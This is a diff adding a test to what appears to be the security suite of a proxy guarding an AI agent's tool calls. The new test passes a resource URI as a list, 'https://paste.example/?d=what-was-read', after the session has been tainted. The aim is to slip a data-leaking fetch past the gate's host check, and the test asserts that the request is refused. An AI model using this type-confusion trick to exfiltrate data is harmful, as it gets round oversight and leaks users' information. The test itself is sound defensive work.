@@ -581,6 +581,17 @@ def test_a_call_whose_name_is_no_string_is_refused(hostile, start_proxy, name):
     assert "tools/call" not in methods and "prompts/get" not in methods
 
 
+@pytest.mark.parametrize("method", ["resources/read", "resources/subscribe"])
+def test_a_resource_request_whose_uri_is_no_string_is_refused(hostile, start_proxy, method):
+    # ["https://..."] names no network host to the gate, but `new URL(uri)` reads it as the URL.
+    proxy, env = started(hostile, start_proxy, {})
+    proxy.call("read_page")  # taints: a fetch of a URL is outbound now
+    reply = proxy.request(method, {"uri": ["https://paste.example/?d=what-was-read"]})
+    proxy.close()
+    assert reply["error"]["code"] == -32600 and "uri" in reply["error"]["message"], reply
+    assert method not in [m.get("method") for m in seen_by_server(env)]
+
+
 @pytest.mark.parametrize("name", ["READ_PAGE", "read_page ", "read_page\u200b", "Read_Page"])
 def test_a_tool_the_server_did_not_list_is_outbound_while_tainted(
     hostile, start_proxy, store, name
